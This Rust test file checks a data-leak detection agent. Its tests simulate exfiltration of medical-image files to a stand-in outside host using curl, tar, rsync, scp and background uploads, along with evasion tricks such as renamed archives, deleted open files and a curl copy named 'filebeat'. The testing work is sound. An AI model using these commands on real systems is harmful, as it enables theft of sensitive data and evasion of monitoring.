//! Leaks that leave by a connection which the watched host opens: each must be told with the right names and bytes.

use jaga_tests::leak::Leak;
use jaga_tests::net::{LAN, OUT};
use jaga_tests::process::Unit;
use jaga_tests::wait::until;
use jaga_tests::world::{MB, World};

/// A leak of store `ekg` to the host on the internet.
fn to_out(session: &str) -> Leak<'_> {
    Leak {
        rule: "store-data-leaves",
        store: "ekg",
        session,
        destination: OUT,
        scopes: &["external"],
    }
}

#[test]
fn curl_of_single_files() {
    let Some(world) = World::new("curl_of_single_files") else {
        return;
    };
    let store = world.store("ekg", 150, MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let before = world.net.out.received();
    let script = format!(
        "cd {} && for f in *; do curl -sfT $f http://{OUT}/$f || exit 1; done",
        store.display()
    );
    world.login("jagat-alice", &script).done(60);
    assert_eq!(world.sink.received(), 150 * MB);
    to_out("login:jagat-alice").told(&mut agent, world.net.out.received() - before);
}

#[test]
fn tar_into_curl() {
    let Some(world) = World::new("tar_into_curl") else {
        return;
    };
    let store = world.store("ekg", 40, 5 * MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let before = world.net.out.received();
    let unit = Unit::new("jagat-tar.service");
    unit.run(
        &format!(
            "tar cf - {} 2>/dev/null | curl -sfT - http://{OUT}/x",
            store.display()
        ),
        60,
    );
    to_out(&unit.session()).told(&mut agent, world.net.out.received() - before);
}

#[test]
fn staged_by_one_login_and_sent_by_another() {
    let Some(world) = World::new("staged_by_one_login_and_sent_by_another") else {
        return;
    };
    let store = world.store("ekg", 150, MB);
    let stage = world.path("stage");
    let mut agent = world.agent(&[("ekg", &store)], "");
    let before = world.net.out.received();
    let (store, stage) = (store.display(), stage.display());
    world
        .login(
            "jagat-alice",
            &format!("tar cf {stage}/x.tar -C {store} . && chmod 666 {stage}/x.tar"),
        )
        .done(60);
    world.login("jagat-bob", &format!("mv {stage}/x.tar {stage}/holiday.avi && curl -sfT {stage}/holiday.avi http://{OUT}/")).done(60);
    to_out("login:jagat-bob").told(&mut agent, world.net.out.received() - before);
}

#[test]
fn rsync_over_ssh() {
    let Some(world) = World::new("rsync_over_ssh") else {
        return;
    };
    let store = world.store("ekg", 150, MB);
    let copy = world.path("copy");
    let mut agent = world.agent(&[("ekg", &store)], "");
    let before = world.net.out.received();
    let ssh = format!("ssh {}", world.logins.options(Some("jagat-alice")));
    let script = format!(
        "rsync -r -e '{ssh}' {}/ jagat-bob@{OUT}:{}/",
        store.display(),
        copy.display()
    );
    world.login("jagat-alice", &script).done(60);
    to_out("login:jagat-alice").told(&mut agent, world.net.out.received() - before);
}

#[test]
fn a_thousand_small_uploads() {
    let Some(world) = World::new("a_thousand_small_uploads") else {
        return;
    };
    let store = world.store("ekg", 1000, 900_000);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let before = world.net.out.received();
    let unit = Unit::new("jagat-small.service");
    unit.run(
        &format!(
            "cd {}; for f in *; do curl -sfT $f http://{OUT}/$f; done",
            store.display()
        ),
        120,
    );
    assert_eq!(world.sink.received(), 900 * MB);
    to_out(&unit.session()).told(&mut agent, world.net.out.received() - before);
}

#[test]
fn a_leak_that_outlives_its_login() {
    let Some(world) = World::new("a_leak_that_outlives_its_login") else {
        return;
    };
    let store = world.store("ekg", 1, 150 * MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let before = world.net.out.received();
    let script = format!(
        "cd {}; nohup curl -sfT 0000.dcm --limit-rate 100M http://{OUT}/ >/dev/null 2>&1 </dev/null &",
        store.display()
    );
    world.login("jagat-alice", &script).done(30);
    until("the upload that was left behind", 30, || {
        (world.sink.received() == 150 * MB).then_some(())
    });
    to_out("login:jagat-alice").told(&mut agent, world.net.out.received() - before);
}

#[test]
fn files_renamed_and_deleted_while_they_are_read() {
    let Some(world) = World::new("files_renamed_and_deleted_while_they_are_read") else {
        return;
    };
    let store = world.store("ekg", 2, 100 * MB);
    let away = world.path("away");
    let mut agent = world.agent(&[("ekg", &store)], "");
    let before = world.net.out.received();
    let unit = Unit::new("jagat-gone.service");
    let script = format!(
        "cd {}; exec 3<0000.dcm 4<0001.dcm; head -c 1000000 <&3 >/dev/null; rm 0000.dcm; mv 0001.dcm {}/innocent; \
         cat <&3 | curl -sfT - http://{OUT}/; cat <&4 | curl -sfT - http://{OUT}/",
        store.display(),
        away.display()
    );
    unit.run(&script, 60);
    to_out(&unit.session()).told(&mut agent, world.net.out.received() - before);
}

#[test]
fn scp_to_a_pc_inside() {
    let Some(world) = World::new("scp_to_a_pc_inside") else {
        return;
    };
    let store = world.store("ekg", 300, MB);
    let copy = world.path("copy");
    let mut agent = world.agent(&[("ekg", &store)], "");
    let before = world.net.lan.received();
    let unit = Unit::new("jagat-scp.service");
    let script = format!(
        "scp -q -r {} {} jagat-bob@{LAN}:{}/",
        world.logins.options(None),
        store.display(),
        copy.display()
    );
    unit.run(&script, 60);
    let session = unit.session();
    let leak = Leak {
        rule: "store-data-to-peer",
        destination: LAN,
        scopes: &["internal"],
        ..to_out(&session)
    };
    leak.told(&mut agent, world.net.lan.received() - before);
}

/// Puts the store's one file in a way of its own.
fn put(name: &str, how: &str) {
    let Some(world) = World::new(name) else {
        return;
    };
    let store = world.store("ekg", 1, 150 * MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let before = world.net.out.received();
    let unit = Unit::new("jagat-put.service");
    let program = jaga_tests::program::beside("jaga-truth");
    unit.run(
        &format!("{program} put {how} {}/0000.dcm {OUT}:80", store.display()),
        60,
    );
    to_out(&unit.session()).told(&mut agent, world.net.out.received() - before);
}

#[test]
fn by_io_uring() {
    put("by_io_uring", "io_uring");
}

#[test]
fn by_sendfile() {
    put("by_sendfile", "sendfile");
}

#[test]
fn by_a_tool_under_a_harmless_name() {
    let Some(world) = World::new("by_a_tool_under_a_harmless_name") else {
        return;
    };
    let store = world.store("ekg", 2, 75 * MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let filebeat = world.folder().join("filebeat");
    std::fs::copy("/usr/bin/curl", &filebeat).unwrap();
    let before = world.net.out.received();
    let script = format!(
        "cd {}; for f in *; do {} -sfT $f http://{OUT}/; done",
        store.display(),
        filebeat.display()
    );
    world.login("jagat-alice", &script).done(60);
    to_out("login:jagat-alice").told(&mut agent, world.net.out.received() - before);
}
